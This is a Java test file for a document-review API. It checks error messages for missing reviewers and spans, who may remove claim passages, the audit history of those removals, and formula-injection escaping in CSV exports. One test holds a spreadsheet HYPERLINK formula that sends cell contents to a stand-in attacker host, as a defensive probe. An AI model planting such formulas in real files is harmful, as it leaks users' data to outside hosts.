package org.credence.api;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.asyncDispatch;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.delete;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.springframework.http.MediaType;

/**
 * Authorship and integrity over the API: references to people, statements and spans that do not
 * exist are refused with a clear message; a reviewer cannot undo a colleague's claim link, and every
 * change to a claim's members is in the history with who did it; spreadsheet formulas never run.
 */
class IntegrityApiTest extends AbstractApiTest {

    final ObjectMapper json = new ObjectMapper();

    @Test
    void assigning_a_document_to_someone_who_is_not_a_reviewer_here_is_a_400() throws Exception {
        callAs("editor");
        perform(post("/api/documents/{id}/assignments", documentId)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content("{\"reviewer\":\"ghost\"}"))
                .andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.message").value("There is no account 'ghost'."));
        perform(post("/api/documents/{id}/assignments", 987_654)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content("{\"reviewer\":\"reviewer1\"}"))
                .andExpect(status().isNotFound())
                .andExpect(jsonPath("$.message").value("Document 987654 does not exist."));
        perform(post("/api/assignments/auto")
                        .contentType(MediaType.APPLICATION_JSON)
                        .content("{\"reviewers\":[\"reviewer1\",\"researcher\"],\"perDocument\":1}"))
                .andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.message").value("'researcher' is not a reviewer in this project."));
    }

    @Test
    void evidence_must_name_a_statement_that_exists() throws Exception {
        for (String evidence : new String[] {"-1", "999999"}) {
            postStatement("{\"start\":0,\"end\":5,\"label\":\"confirmed\",\"evidenceStatementId\":" + evidence + "}")
                    .andExpect(status().isBadRequest())
                    .andExpect(jsonPath("$.message").value("The evidence statement " + evidence + " does not exist."));
        }
        long first = id(postStatement("{\"start\":0,\"end\":5,\"label\":\"confirmed\"}")
                .andReturn()
                .getResponse()
                .getContentAsString());
        postStatement("{\"start\":6,\"end\":11,\"label\":\"disputed\",\"evidenceStatementId\":" + first + "}")
                .andExpect(status().isCreated())
                .andExpect(jsonPath("$.evidenceStatementId").value(first));
    }

    @Test
    void a_match_decision_or_cue_dismissal_outside_the_document_is_a_400() throws Exception {
        long statement = id(postStatement("{\"start\":0,\"end\":5,\"label\":\"confirmed\"}")
                .andReturn()
                .getResponse()
                .getContentAsString());
        String outside = "The span 0–9999 lies outside document " + documentId + ", which has";

        perform(post("/api/statements/{id}/matches", statement)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content("{\"documentId\":" + documentId + ",\"start\":0,\"end\":9999,\"same\":false}"))
                .andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.message").value(org.hamcrest.Matchers.startsWith(outside)));
        perform(post("/api/documents/{id}/cues/dismissals", documentId)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content("{\"start\":0,\"end\":9999}"))
                .andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.message").value(org.hamcrest.Matchers.startsWith(outside)));
        perform(post("/api/documents/{id}/cues/dismissals", documentId)
                        .contentType(MediaType.APPLICATION_JSON)
                        .content("{\"start\":7,\"end\":3}"))
                .andExpect(status().isBadRequest());
    }

    @Test
    void only_whoever_added_a_claim_member_its_claims_maker_or_an_editor_may_remove_it_and_the_history_says_who()
            throws Exception {
        String created = perform(post("/api/claims")
                        .contentType(MediaType.APPLICATION_JSON)
                        .content("{\"wording\":\"Up to 2,200 fighters\",\"members\":[{\"documentId\":" + documentId
                                + ",\"start\":0,\"end\":5},{\"documentId\":" + documentId
                                + ",\"start\":6,\"end\":11}]}"))
                .andExpect(status().isCreated())
                .andReturn()
                .getResponse()
                .getContentAsString(StandardCharsets.UTF_8);
        JsonNode claim = json.readTree(created);
        long claimId = claim.get("id").asLong();
        long first = claim.get("members").get(0).get("id").asLong();
        long second = claim.get("members").get(1).get("id").asLong();

        callAs("reviewer2");
        perform(delete("/api/claims/{id}/members/{m}", claimId, first))
                .andExpect(status().isForbidden())
                .andExpect(jsonPath("$.message")
                        .value("Only whoever added this passage, whoever made the claim, or an"
                                + " editor can take it out of the claim."));
        callAs("editor");
        perform(delete("/api/claims/{id}/members/{m}", claimId, first))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.members.length()").value(1));
        callAs("reviewer1");
        perform(delete("/api/claims/{id}/members/{m}", claimId, second)).andExpect(status().isOk());

        JsonNode history = json.readTree(perform(get("/api/claims/{id}/history", claimId))
                .andExpect(status().isOk())
                .andReturn()
                .getResponse()
                .getContentAsString(StandardCharsets.UTF_8));
        assertThat(history)
                .extracting(
                        h -> h.get("action").asText() + " by " + h.get("actor").asText())
                .containsExactly(
                        "member added by reviewer1",
                        "member added by reviewer1",
                        "member removed by editor",
                        "member removed by reviewer1");
        assertThat(history.get(2).get("before").asText())
                .contains("\"start\":0")
                .contains("\"end\":5");
    }

    @Test
    void a_rationale_that_is_a_spreadsheet_formula_is_exported_as_text_in_csv_and_as_typed_in_jsonl() throws Exception {
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
        postStatement("{\"start\":0,\"end\":5,\"label\":\"confirmed\",\"rationale\":" + json.writeValueAsString(formula)
                        + ",\"attributionSource\":\"@SUM(1+1)\",\"tags\":[\"-2+3\"]}")
                .andExpect(status().isCreated());
        callAs("researcher");

        String csv = exported("csv&bom=true");
        String jsonl = exported("jsonl");

        assertThat(csv)
                .contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"")
                .contains("'@SUM(1+1)")
                .contains("'-2+3")
                .doesNotContain(",=HYPERLINK")
                .doesNotContain(",@SUM");
        assertThat(json.readTree(jsonl.lines().findFirst().orElseThrow())
                        .get("rationale")
                        .asText())
                .isEqualTo(formula);
    }

    private String exported(String format) throws Exception {
        var pending = perform(get("/api/export?format=" + format + "&document=" + documentId))
                .andReturn();
        return mvc.perform(asyncDispatch(pending))
                .andExpect(status().isOk())
                .andReturn()
                .getResponse()
                .getContentAsString(StandardCharsets.UTF_8);
    }

    private long id(String body) throws Exception {
        return json.readTree(body).get("id").asLong();
    }
}
